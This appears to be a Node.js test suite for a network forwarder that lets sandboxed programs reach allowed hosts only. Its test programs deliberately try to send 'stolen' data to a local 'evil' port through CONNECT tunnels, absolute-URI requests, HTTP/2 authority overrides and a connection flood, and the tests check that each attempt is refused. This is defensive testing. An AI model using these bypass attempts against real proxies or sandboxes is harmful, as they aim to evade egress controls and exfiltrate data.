import assert from "node:assert/strict";
import { test } from "node:test";
import { runForwarded } from "./forwarded.ts";
import { echoServer, type Outside, webServer } from "./outside.ts";

interface Outsides {
  readonly good: Outside;
  readonly evil: Outside;
}

/**
 * Runs a program that has the channel itself, as one would that took it from the forwarder. It may reach `good` and not `evil`; `GOOD` and `EVIL`
 * are their ports. What it prints is compared, and then another command must find its own network unharmed.
 */
function check(name: string, program: string, expected: { printed: RegExp; reached: readonly RegExp[] }): void {
  test(name, { timeout: 20_000 }, async (t) => {
    const { good, evil }: Outsides = { good: await webServer(t), evil: await echoServer(t) };
    const filter = { allows: async ({ port }: { port: number }) => port === good.port };
    const source = `const GOOD = ${good.port}, EVIL = ${evil.port};
      const net = require("node:net"), http2 = require("node:http2");
      const channel = new net.Socket({ fd: 3, readable: true, writable: true });
      ${program}`;
    const { stdout, stderr } = await runForwarded(["true"], { filter, argv: [process.execPath, "-e", source] });
    assert.match(stdout + stderr, expected.printed);
    assert.equal(evil.connections(), 0, evil.log.join("\n"));
    assert.equal(good.log.length, expected.reached.length, good.log.join("\n--\n"));
    for (const [index, one] of expected.reached.entries()) assert.match(good.log[index] ?? "", one);
    const url = `http://127.0.0.1:${good.port}/after`;
    const next = await runForwarded(
      ["sh", "-c", 'NO_PROXY= no_proxy= exec "$@"', "sh", process.execPath, "-e", `fetch("${url}")`],
      { filter },
    );
    assert.equal(next.code, 0, next.stderr);
    assert.match(good.log.at(-1) ?? "", /^GET \/after/);
  });
}

const session = `
  const session = http2.connect("http://x", { createConnection: () => channel });
  const speak = (text, headers = { ":method": "CONNECT", ":authority": "x" }) => new Promise((resolve) => {
    let back = "";
    const stream = session.request(headers, { endStream: false });
    stream.on("error", (error) => resolve(error.message)).on("end", () => resolve(back)).on("data", (data) => (back += data));
    stream.write(text);
  });
  const first = (text) => text.split("\\r\\n")[0];`;

check(
  "speaking on the channel itself reaches what is allowed, and nothing else",
  `${session}
  Promise.all([
    speak("CONNECT 127.0.0.1:" + EVIL + " HTTP/1.1\\r\\n\\r\\nstolen"),
    speak("GET http://127.0.0.1:" + EVIL + "/stolen HTTP/1.1\\r\\nHost: 127.0.0.1:" + EVIL + "\\r\\n\\r\\n"),
    speak("GET http://127.0.0.1:" + GOOD + "/ HTTP/1.1\\r\\nHost: 127.0.0.1:" + GOOD + "\\r\\nConnection: close\\r\\n\\r\\n"),
  ]).then((all) => { console.log(all.map(first).join("|")); process.exit(); });`,
  { printed: /^HTTP\/1\.1 403 [^|]*\|HTTP\/1\.1 403 [^|]*\|HTTP\/1\.1 200 OK\n$/, reached: [/^GET \//] },
);
check(
  "where the channel's own request says to go does not matter",
  `${session}
  speak("stolen", { ":method": "CONNECT", ":authority": "127.0.0.1:" + EVIL }).then((back) => {
    console.log(first(back));
    return speak("stolen", { ":method": "POST", ":scheme": "http", ":path": "/", ":authority": "127.0.0.1:" + EVIL });
  }).then((back) => { console.log(back); process.exit(); });`,
  { printed: /^HTTP\/1\.1 400 Bad Request\n.*REFUSED_STREAM\n$/, reached: [] },
);
check(
  "what is not the channel's protocol ends it",
  `channel.on("close", () => console.log("ended")).resume(); channel.write("GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");`,
  {
    printed: /^ended\n$/,
    reached: [],
  },
);
check(
  "a thousand connections that wait",
  `${session}
  session.on("error", () => {}).on("close", () => process.exit());
  for (let count = 0; count < 1000; count += 1) void speak("CONNECT 127.0.0.1:" + EVIL);
  speak("").then(() => {});
  setImmediate(() => session.ping(() => { console.log("alive"); process.exit(); }));`,
  { printed: /^alive\n$/, reached: [] },
);
check(
  "a channel that is cut in the middle of a request",
  `${session}
  void speak("POST http://127.0.0.1:" + EVIL + "/ HTTP/1.1\\r\\nHost: 127.0.0.1:" + EVIL + "\\r\\nContent-Length: 10\\r\\n\\r\\nabc");
  setImmediate(() => session.ping(() => process.exit()));`,
  { printed: /^$/, reached: [] },
);
